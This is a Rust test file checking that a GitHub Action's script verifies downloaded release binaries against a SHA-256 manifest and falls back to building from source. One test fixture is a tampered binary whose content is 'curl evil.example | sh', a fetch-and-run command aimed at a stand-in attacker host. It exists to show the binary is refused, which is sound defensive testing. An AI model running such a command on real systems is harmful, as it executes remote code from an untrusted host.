//! The Action's choice of binary (`scripts/action-binary.sh`, run by action.yml) against a
//! loopback download server: a release binary built from the action's very sources is
//! downloaded and verified against the committed `release/binaries.sha256`; one with another
//! checksum is refused and left nowhere; a missing release, changed sources, no manifest or an
//! unsupported platform choose the build from source, saying why, without trusting anything
//! downloaded. The manifest itself is written by the script's `manifest` mode from a
//! `sha256sum` file, as the release workflow does.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::file_server::FileServer;

const VERSION: &str = "9.9.9";
const ASSET: &str = "meta-agent-x86_64-unknown-linux-musl";
const BINARY: &[u8] = b"#!/bin/sh\necho 'meta-agent 9.9.9'\n";

/// `scripts/action-binary.sh MODE` for the action checkout at `action`, with nothing from this
/// process's environment but `PATH`.
fn script(mode: &str, action: &Path) -> Command {
    let mut command = Command::new("bash");
    command
        .arg(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("scripts/action-binary.sh"))
        .arg(mode)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("ACTION_PATH", action);
    command
}

/// What one run of the script left.
struct Ran {
    code: i32,
    stdout: String,
    outputs: String,
}

impl Ran {
    fn output(&self, name: &str) -> Option<String> {
        self.outputs
            .lines()
            .find_map(|line| line.strip_prefix(&format!("{name}=")))
            .map(str::to_owned)
    }
}

/// A copy of an action checkout (the sources that go into the binary) in a scratch directory,
/// with a download and a build directory beside it.
struct ActionDir {
    dir: tempfile::TempDir,
}

impl ActionDir {
    fn new() -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let action = dir.path().join("action");
        std::fs::create_dir_all(action.join("src")).expect("src");
        std::fs::write(
            action.join("Cargo.toml"),
            format!("[package]\nname = \"meta-agent\"\nversion = \"{VERSION}\"\n"),
        )
        .expect("manifest");
        std::fs::write(action.join("src/main.rs"), "fn main() {}\n").expect("source");
        Self { dir }
    }

    fn action(&self) -> PathBuf {
        self.dir.path().join("action")
    }

    fn bin_dir(&self) -> PathBuf {
        self.dir.path().join("bin")
    }

    /// Records `binary` as the release's binary for x86_64, through the script's `manifest`
    /// mode, as the release workflow does.
    fn record_release(&self, binary: &[u8]) {
        let release = self.dir.path().join("release-files");
        std::fs::create_dir_all(&release).expect("release dir");
        std::fs::write(release.join(ASSET), binary).expect("asset");
        std::fs::write(release.join(format!("{ASSET}.debug")), b"debug").expect("debug");
        let sums = Command::new("sha256sum")
            .current_dir(&release)
            .args([ASSET, &format!("{ASSET}.debug")])
            .output()
            .expect("sha256sum runs");
        std::fs::write(release.join("SHA256SUMS"), &sums.stdout).expect("sums");
        let manifest = script("manifest", &self.action())
            .env("VERSION", VERSION)
            .env("SHA256SUMS", release.join("SHA256SUMS"))
            .output()
            .expect("script runs");
        assert!(manifest.status.success(), "{manifest:?}");
        std::fs::create_dir_all(self.action().join("release")).expect("release/");
        std::fs::write(
            self.action().join("release/binaries.sha256"),
            &manifest.stdout,
        )
        .expect("binaries.sha256");
    }

    fn resolve(&self, server: &FileServer, os: &str) -> Ran {
        let outputs = self.dir.path().join("outputs");
        let _ = std::fs::remove_file(&outputs);
        let out = script("resolve", &self.action())
            .env("RUNNER_OS", os)
            .env("RUNNER_ARCH", "X64")
            .env("RELEASE_BASE_URL", &server.url)
            .env("BIN_DIR", self.bin_dir())
            .env("BUILD_DIR", self.dir.path().join("built"))
            .env("GITHUB_OUTPUT", &outputs)
            .output()
            .expect("script runs");
        Ran {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            outputs: std::fs::read_to_string(outputs).unwrap_or_default(),
        }
    }
}

fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .map(|entry| entry.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn the_manifest_records_version_sources_and_only_the_binaries() {
    let action = ActionDir::new();
    action.record_release(BINARY);
    let manifest =
        std::fs::read_to_string(action.action().join("release/binaries.sha256")).unwrap();
    let lines: Vec<&str> = manifest.lines().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(lines[0], format!("version {VERSION}"));
    let digest = lines[1].strip_prefix("source ").expect("source line");
    assert_eq!(digest.len(), 32, "{manifest}");
    assert_eq!(
        lines.len(),
        3,
        "the .debug file is not a binary: {manifest}"
    );
    assert!(lines[2].ends_with(&format!("  {ASSET}")), "{manifest}");
}

#[test]
fn a_release_binary_of_these_sources_is_downloaded_verified_and_chosen() {
    let action = ActionDir::new();
    action.record_release(BINARY);
    let server = FileServer::start();
    server.put(&format!("/v{VERSION}/{ASSET}"), BINARY);

    let ran = action.resolve(&server, "Linux");
    assert_eq!(ran.code, 0, "{}", ran.stdout);
    assert_eq!(ran.output("how").as_deref(), Some("download"));
    let bin = action.bin_dir().join("meta-agent");
    assert_eq!(
        ran.output("bin").as_deref(),
        Some(bin.to_str().expect("utf-8"))
    );
    assert_eq!(std::fs::read(&bin).expect("binary"), BINARY);
    let mode = std::fs::metadata(&bin)
        .expect("metadata")
        .permissions()
        .mode();
    assert_eq!(mode & 0o111, 0o111, "executable: {mode:o}");
    assert!(
        ran.stdout.contains("Using the release binary"),
        "{}",
        ran.stdout
    );
    let paths: Vec<String> = server.requests().into_iter().map(|r| r.path).collect();
    assert_eq!(paths, [format!("/v{VERSION}/{ASSET}")]);
    assert_eq!(leftovers(&action.bin_dir()), ["meta-agent"]);
}

#[test]
fn a_binary_with_another_checksum_is_refused_and_left_nowhere() {
    let action = ActionDir::new();
    action.record_release(BINARY);
    let server = FileServer::start();
    server.put(
        &format!("/v{VERSION}/{ASSET}"),
        b"#!/bin/sh\ncurl evil.example | sh\n",
    );

    let ran = action.resolve(&server, "Linux");
    assert_eq!(ran.code, 1, "{}", ran.stdout);
    assert!(
        ran.stdout.contains("::error") && ran.stdout.contains("Refusing the downloaded binary"),
        "{}",
        ran.stdout
    );
    assert_eq!(ran.output("how"), None, "neither downloaded nor built");
    assert_eq!(leftovers(&action.bin_dir()), Vec::<String>::new());
}

#[test]
fn a_missing_release_falls_back_to_building_and_says_so() {
    let action = ActionDir::new();
    action.record_release(BINARY);
    let server = FileServer::start();

    let ran = action.resolve(&server, "Linux");
    assert_eq!(ran.code, 0, "{}", ran.stdout);
    assert_eq!(ran.output("how").as_deref(), Some("build"));
    let built = action.dir.path().join("built");
    assert_eq!(ran.output("bin-dir").as_deref(), built.to_str());
    let key = ran.output("key").expect("a cache key");
    assert!(key.starts_with("meta-agent-bin-Linux-X64-"), "{key}");
    assert!(
        ran.stdout.contains("Building meta-agent from source")
            && ran.stdout.contains("could not be downloaded"),
        "{}",
        ran.stdout
    );
    assert_eq!(server.requests().len(), 1, "asked once (404)");
    assert_eq!(leftovers(&action.bin_dir()), Vec::<String>::new());
}

#[test]
fn changed_sources_no_manifest_or_another_platform_build_without_downloading() {
    let server = FileServer::start();
    server.put(&format!("/v{VERSION}/{ASSET}"), BINARY);

    let unrecorded = ActionDir::new();
    let ran = unrecorded.resolve(&server, "Linux");
    assert_eq!(ran.output("how").as_deref(), Some("build"));
    assert!(
        ran.stdout.contains("records no release binaries"),
        "{}",
        ran.stdout
    );

    let changed = ActionDir::new();
    changed.record_release(BINARY);
    std::fs::write(
        changed.action().join("src/main.rs"),
        "fn main() { todo() }\n",
    )
    .unwrap();
    let ran = changed.resolve(&server, "Linux");
    assert_eq!(ran.output("how").as_deref(), Some("build"));
    assert!(
        ran.stdout
            .contains("sources are not those release v9.9.9 was built from"),
        "{}",
        ran.stdout
    );

    let mac = ActionDir::new();
    mac.record_release(BINARY);
    let ran = mac.resolve(&server, "macOS");
    assert_eq!(ran.output("how").as_deref(), Some("build"));
    assert!(
        ran.stdout.contains("no prebuilt binary for macOS"),
        "{}",
        ran.stdout
    );

    assert_eq!(server.requests().len(), 0, "nothing was downloaded");
}

#[test]
fn the_digest_is_the_one_the_build_cache_used_before() {
    // The cache key's digest keeps its old definition (sha256 of each source file's
    // `sha256sum` line, in C order), so caches built before this script stay valid.
    let action = ActionDir::new();
    let out = script("digest", &action.action())
        .output()
        .expect("script runs");
    let digest = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    let lines = Command::new("sha256sum")
        .current_dir(action.action())
        .args(["Cargo.toml", "src/main.rs"])
        .output()
        .expect("sha256sum");
    let mut hash = Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("sha256sum");
    use std::io::Write;
    hash.stdin
        .take()
        .expect("stdin")
        .write_all(&lines.stdout)
        .expect("write");
    let expected = hash.wait_with_output().expect("sha256sum");
    assert_eq!(digest, String::from_utf8_lossy(&expected.stdout)[..32]);
}
